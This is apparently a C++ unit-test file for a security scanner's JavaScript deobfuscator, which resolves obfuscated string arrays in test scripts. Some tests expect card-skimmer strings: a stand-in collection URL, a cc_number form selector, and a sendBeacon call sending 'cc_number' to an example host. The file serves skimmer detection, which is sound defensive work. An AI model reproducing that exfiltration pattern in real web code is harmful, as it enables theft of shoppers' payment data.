// javascript-obfuscator's string arrays undone (js_string_array.cc): the obfuscator's own output
// (testdata/obfuscator: two scripts the team wrote, run through javascript-obfuscator 4 with
// its default options, RC4 with wrappers, and base64 with control-flow flattening and split
// strings) reads as the script it was made from; hand-written shapes check the rotation, the
// decoders, wrappers, aliases and objects one by one; hostile input stays bounded.
#include "webroot/js_string_array.h"

#include <gtest/gtest.h>

#include <string>

#include "support/testing.h"
#include "webroot/code_lexer.h"
#include "webroot/normalize.h"

namespace tq::webroot {
namespace {

const std::string kData = std::string(TQ_SOURCE_DIR) + "/src/webroot/testdata/obfuscator/";

// The script after the resolver and the folds, as the analysers see it.
std::string Resolved(std::string_view js, bool* changed = nullptr) {
  LexResult lr = LexJs(js, LexLimits());
  FoldBudget b;
  bool c = ResolveStringArrays(lr.tokens, b);
  if (changed) *changed = c;
  return Render(lr.tokens, 1 << 20);
}

int Strongest(const NormalizedCode& n, std::string_view id) {
  int s = 0;
  for (const CodeTrait& t : n.traits)
    if (t.id == id && t.strength > s) s = t.strength;
  return s;
}

TEST(JsStringArray, ObfuscatorOutputReadsAsTheScript) {
  for (std::string v : {"default", "rc4-wrappers", "base64-flattened"}) {
    SCOPED_TRACE(v);
    std::string src = testing::ReadFile(kData + "skimmer-" + v + ".js");
    NormalizedCode n = Normalize(src, CodeKind::kJs);
    ASSERT_FALSE(n.layers.empty());
    const std::string& text = n.layers[0].text;
    EXPECT_NE(text.find("https://collect-metrics.example/pixel.gif?d="), std::string::npos);
    EXPECT_NE(text.find("input[name=\"payment[cc_number]\"]"), std::string::npos);
    EXPECT_NE(text.find("querySelector"), std::string::npos);
    EXPECT_GE(Strongest(n, "js.card_exfil"), 3);
  }
}

TEST(JsStringArray, ObfuscatedBenignScriptStaysQuiet) {
  for (std::string v : {"default", "rc4-wrappers", "base64-flattened"}) {
    SCOPED_TRACE(v);
    std::string src = testing::ReadFile(kData + "benign-" + v + ".js");
    NormalizedCode n = Normalize(src, CodeKind::kJs);
    ASSERT_FALSE(n.layers.empty());
    EXPECT_NE(n.layers[0].text.find("/newsletter/subscriber/new/"), std::string::npos);
    for (const CodeTrait& t : n.traits) EXPECT_LT(t.strength, 3) << t.id << ": " << t.what;
  }
}

TEST(JsStringArray, RotationFoundByTheChecksum) {
  // Entries rotated left by one at load: parseInt('2x')/1 - parseInt('1y')/1 == 1 only once
  // the array reads ['2x','1y','fetch'] (it starts as ['fetch','2x','1y']).
  std::string js =
      "function A(){var s=['fetch','2x','1y'];A=function(){return s;};return A();}"
      "function D(i,k){var s=A();return D=function(i,k){i=i-0x10;var v=s[i];return v;},D(i,k);}"
      "(function(a,t){var d=D,s=a();while(!![]){try{var c=parseInt(d(0x10))/0x1-"
      "parseInt(d(0x11))/0x1;if(c===t)break;else s['push'](s['shift']());}catch(e){"
      "s['push'](s['shift']());}}}(A,0x1));window[D(0x12)]('/x');";
  bool changed = false;
  std::string out = Resolved(js, &changed);
  EXPECT_TRUE(changed);
  EXPECT_NE(out.find("window['fetch']('/x')"), std::string::npos) << out;
}

TEST(JsStringArray, OlderReleasesAndWrappersAndAliases) {
  // A var array rotated by the count passed, '0x1' string indexes, an alias and a wrapper.
  std::string js =
      "var _a=['b','c','send','a'];(function(x,n){var r=function(m){while(--m){x['push']("
      "x['shift']());}};r(++n);}(_a,0x1));"
      "var _d=function(i,k){i=i-0x0;var v=_a[i];return v;};var q=_d;"
      "function w(p,o,z){return q(z- -0x1,p);}xhr[_d('0x1')](w(0,0,0x1));";
  std::string out = Resolved(js);
  // Rotated once: ['c','send','a','b']; _d('0x1') = 'send'; w(..,0x1) -> q(0x2) = 'a'.
  EXPECT_NE(out.find("xhr['send']('a')"), std::string::npos) << out;
}

TEST(JsStringArray, HandMadeArrayDecodedWithAtob) {
  // A hand-made array in the obfuscator's shape whose decoder runs each entry through atob().
  std::string js =
      "function _s(){var a=['c2VuZEJlYWNvbg==','aHR0cHM6Ly9hLmV4YW1wbGUudG9wL2M=','Y2NfbnVtYmVy'];"
      "_s=function(){return a;};return _s();}"
      "function _g(i,k){var a=_s();_g=function(j,m){j=j-0x10;var v=a[j];v=atob(v);return v;};"
      "return _g(i,k);}navigator[_g(0x10)](_g(0x11),_g(0x12));";
  std::string out = Resolved(js);
  EXPECT_NE(out.find("navigator['sendBeacon']('https://a.example.top/c','cc_number')"),
            std::string::npos)
      << out;
}

TEST(JsStringArray, OrdinaryArraysAndFunctionsAreLeftAlone) {
  bool changed = true;
  std::string js = "var days=['mon','tue'];function day(i){return days[i];}show(day(1));";
  Resolved(js, &changed);
  // day() has no offset and reads the array: a decoder by shape, and what it returns is what
  // the code returns; no rotation, so the plain lookup is right.
  std::string out = Resolved(js);
  EXPECT_NE(out.find("show('tue')"), std::string::npos) << out;
  Resolved("var a=[1,2];function f(x){return x;}f(1);", &changed);
  EXPECT_FALSE(changed);
}

TEST(JsStringArray, HostileShapesStayBounded) {
  // A checksum that never matches: nothing is replaced.
  std::string never =
      "function A(){var s=['1','2'];A=function(){return s;};return A();}"
      "function D(i){var s=A();return D=function(i){i=i-0x0;return s[i];},D(i);}"
      "(function(a,t){var s=a();while(!![]){try{var c=parseInt(D(0x0));if(c===t)break;else "
      "s['push'](s['shift']());}catch(e){s['push'](s['shift']());}}}(A,0x63));x(D(0x1));";
  EXPECT_NE(Resolved(never).find("x(D(0x1))"), std::string::npos);
  // Wrappers calling each other in a ring, and a wrapper calling itself.
  std::string ring =
      "function A(){var s=['a','b'];A=function(){return s;};return A();}"
      "function D(i){var s=A();return D=function(i){i=i-0x0;return s[i];},D(i);}"
      "function w1(a){return w2(a);}function w2(a){return w1(a);}function w3(a){return w3(a);}"
      "x(w1(0x0),w3(0x1));";
  EXPECT_NE(Resolved(ring).find("x(w1(0x0),w3(0x1))"), std::string::npos);
  // A huge array, an index out of range, a NaN index, RC4 with no key: bounded, untouched.
  std::string big = "function A(){var s=[";
  for (int i = 0; i < 70000; ++i) big += "'e" + std::to_string(i) + "',";
  big +=
      "'z'];A=function(){return s;};return A();}"
      "function D(i,k){var s=A();return D=function(i,k){i=i-0x0;var v=s[i];if(D.x===undefined){"
      "var q='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';v=v^1;}"
      "return v;},D(i,k);}x(D(0x1),D(0xfffffff),D('zz'),D());";
  std::string out = Resolved(big);
  EXPECT_NE(out.find("x(D(0x1),D(0xfffffff),D('zz'),D())"), std::string::npos);
  // Nesting past any depth, unterminated input.
  std::string deep =
      "function A(){var s=['a','b'];A=function(){return s;};return A();}"
      "function D(i){var s=A();return D=function(i){i=i-0x0;return s[i];},D(i);}x(D(";
  deep += std::string(5000, '(') + "0x0";
  Resolved(deep);
  Resolved("function A(){var s=['a','b'");
  Resolved("var o={'k':function(a,b){return a+b;}};o.k(o.k(o.k(");
}

}  // namespace
}  // namespace tq::webroot
